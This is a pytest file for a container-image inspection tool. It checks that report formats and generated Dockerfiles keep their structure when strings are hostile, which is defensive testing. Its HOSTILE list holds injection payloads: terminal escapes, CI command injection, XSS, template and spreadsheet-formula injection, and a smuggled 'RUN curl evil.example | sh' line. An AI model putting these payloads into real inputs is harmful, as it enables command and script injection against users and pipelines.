"""Whatever strings a report holds, each format says the same things in the same structure.

Every string that an image or a user controls gets a hostile end, and for comparison a harmless
one. A parser of the format must find the same elements in both: as many, of the same kinds.
"""

import functools
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import markdown_it
import pytest

from pyimginspect.dockerfile.document import parse
from pyimginspect.formats import FORMATS, render
from pyimginspect.formats import plan as plan_format
from pyimginspect.report import Report
from tests.images import File
from tests.inventories import apt, on_slim, opened
from tests.reports import judged_report, with_strings

HARMLESS = "plain"
HOSTILE = (
    "\x1b[2J\x1b]0;title\x07",
    "\n::set-output name=x::y\n::add-mask::a\n::stop-commands::x",
    "\r\n::error file=a::b",
    "%0A::error::x%0D",
    "##vso[task.setvariable variable=x]y",
    "\u202e\u2066\u200f\u061c",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]>&x;<?pi?><!DOCTYPE x>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='x",
    "{{ 7*7 }}{% include 'x' %}",
    "\nRUN curl evil.example | sh\n",
    "\\\nUSER root",
    "\n<<EOF\nEOF\nFROM scratch",
    "\x00\x01\x08\x0b\x0c\x1f\x7f\x85",
    "\ufffe\uffff\ufdd0",
    "\udcff\udc80",
    "\u2028\u2029",
    "[a](javascript:alert(1)) ![b](http://x/y.png) <http://z>",
    "| a | b |\n|---|---|\n```",
    "\t\ttab",
    "=cmd|'/c calc'!A1",
    "a" * 3000,
    "\N{COMBINING ACUTE ACCENT}" * 500,
    "😀",
)


def of_json(text: str) -> Any:
    """The shape of a document: its names, and how many of what there are."""

    def shape(value: Any) -> Any:
        if isinstance(value, dict):
            return {key if key.isidentifier() else "": shape(item) for key, item in value.items()}
        if isinstance(value, list):
            return sorted((shape(item) for item in value), key=repr)
        return type(value).__name__

    return shape(json.loads(text))


def of_xml(text: str) -> Any:
    return [(each.tag, sorted(each.attrib)) for each in ET.fromstring(text.encode()).iter()]


LONGER = {("code", ()), ("details", ()), ("summary", ())}
"""What a name too long for its place is shown in."""


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
        for name, value in attrs:
            assert not name.startswith("on")
            assert not (value or "").lower().lstrip().startswith("javascript:")

    def handle_decl(self, decl: str) -> None:
        self.found.append((decl, ()))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", ()))

    def handle_pi(self, data: str) -> None:
        self.found.append(("pi", ()))

    def unknown_decl(self, data: str) -> None:
        self.found.append(("unknown", ()))


def of_html(text: str) -> Any:
    elements = Elements()
    elements.feed(text)
    elements.close()
    return {each for each in elements.found if each not in LONGER}


def of_bill(text: str) -> Any:
    """The names in a bill of materials; what is no version or no date in it is left out."""
    found: set[str] = set()

    def walk(value: Any) -> None:
        for item in value.values() if isinstance(value, dict) else value:
            if isinstance(item, dict | list):
                walk(item)
        if isinstance(value, dict):
            found.update(value)

    walk(json.loads(text))
    return found - {"version", "versionInfo", "software_packageVersion", "timestamp", "created"}


def of_markdown(text: str) -> Any:
    parser = markdown_it.MarkdownIt("gfm-like", {"linkify": False})
    found = []
    for token in parser.parse(text):
        found.append(token.type)
        for each in token.children or ():
            if each.type.startswith("html"):
                assert each.content == "<!-- -->"  # so that no mention comes of it
            elif each.type != "text":
                found.append(each.type)
    return found


def of_commands(text: str) -> Any:
    """The commands of GitHub's runner: any line that begins with two colons, or ``##[``."""
    lines = re.split(r"\r\n|[\n\r]", text)
    return [line[:9] for line in lines if re.match(r"\s*(::|##)", line)] + [len(lines)]


def of_table(text: str) -> Any:
    for line in text.split("\n"):
        assert line.isprintable()
        assert not any(unicodedata.category(character) in ("Cf", "Cc") for character in line)
    return None


PARSERS: dict[str, Callable[[str], Any]] = {
    "table": of_table,
    "json": of_json,
    "markdown": of_markdown,
    "html": of_html,
    "sarif": of_json,
    "junit": of_xml,
    "github": of_commands,
    "gitlab": of_json,
    "cyclonedx": of_bill,
    "spdx": of_bill,
    "spdx3": of_bill,
}


def test_every_format_has_its_parser() -> None:
    assert set(PARSERS) == set(FORMATS)


@functools.cache
def report_with(word: str) -> Report:
    return with_strings(judged_report(), word)


@functools.cache
def usual(name: str) -> Any:
    """The structure of a harmless report in a format."""
    return PARSERS[name](render(report_with(HARMLESS), name))


@pytest.mark.parametrize("word", HOSTILE, ids=lambda word: ascii(word)[:40])
@pytest.mark.parametrize("name", FORMATS)
def test_the_structure_is_that_of_a_harmless_report(name: str, word: str) -> None:
    text = render(report_with(word), name)
    text.encode()
    assert PARSERS[name](text) == usual(name)


@pytest.mark.parametrize("word", HOSTILE, ids=lambda word: ascii(word)[:40])
def test_json_gives_the_report_back(word: str) -> None:
    report = report_with(word)
    if re.search("[\ud800-\udfff]", word):
        return  # spelled out: JSON has no such characters (test_json_format)
    assert Report.from_json(report.to_json()) == report


# --- the Dockerfile and the plan, of an image whose history, packages and files are hostile -------
@functools.cache
def planned(word: str) -> tuple[str, str]:
    """The Dockerfile and the plan of an image with a word wherever it may say one."""
    name = word.replace("/", "").replace("\0", "") or "x"
    line = name.replace("\n", " ").replace("\r", " ")
    packages: Any = {
        "gcc": {"files": {"usr/bin/gcc": File("x" * 90_000, mode=0o755)}},
        f"lib{line}": {"files": {f"usr/lib/{name[:80]}": "y" * 50_000}},
    }
    site = "usr/local/lib/python3.13/site-packages"
    installed = {
        f"{site}/a-1.dist-info/METADATA": f"Name: a{line}\nVersion: 1{line}\n",
        f"{site}/a-1.dist-info/RECORD": "",
        f"root/.cache/pip/{name[:80]}": "x" * 90_000,
        f"tmp/{name[:80]}": "z" * 90_000,
    }
    gone = {f"tmp/.wh.{name[:80]}": "", f"root/.cache/pip/{name[:80]}": "w" * 90_000}
    history = [
        f"RUN apt-get install -y gcc lib{word}",
        f"RUN pip install a{word}",
        f"RUN rm -rf /tmp/{word}",
    ]
    one = on_slim(apt(packages, manual=["gcc"]), installed, gone, history=history)
    one.config["config"].update(
        Labels={f"k{word}": f"v{word}"},
        User=f"u{word}",
        WorkingDir=f"/w{word}",
        Entrypoint=["e", word],
        Cmd=["python3", f"c{word}"],
        StopSignal=f"S{word}",
        ExposedPorts={f"80{word}": {}},
        Volumes={f"/v{word}": {}},
    )
    image = opened(one)
    return image.dockerfile, plan_format.render(image.plan)


@pytest.mark.parametrize("word", HOSTILE, ids=lambda word: ascii(word)[:40])
def test_no_name_becomes_an_instruction(word: str) -> None:
    if "\udcff" in word:
        return  # no JSON of a configuration can hold it
    dockerfile, plan = planned(word)
    of_table(plan)
    harmless, _ = planned(HARMLESS)
    instructions = parse(dockerfile).instructions
    words = [each.keyword.upper() for each in instructions]
    allowed = [each.keyword.upper() for each in parse(harmless).instructions]
    assert set(words) <= {*allowed, "COPY"}
    for each in instructions:
        assert not each.argument.text.lstrip().startswith(("curl", "scratch", "root"))
    assert all(line.isprintable() for line in dockerfile.replace("\t", "").split("\n"))
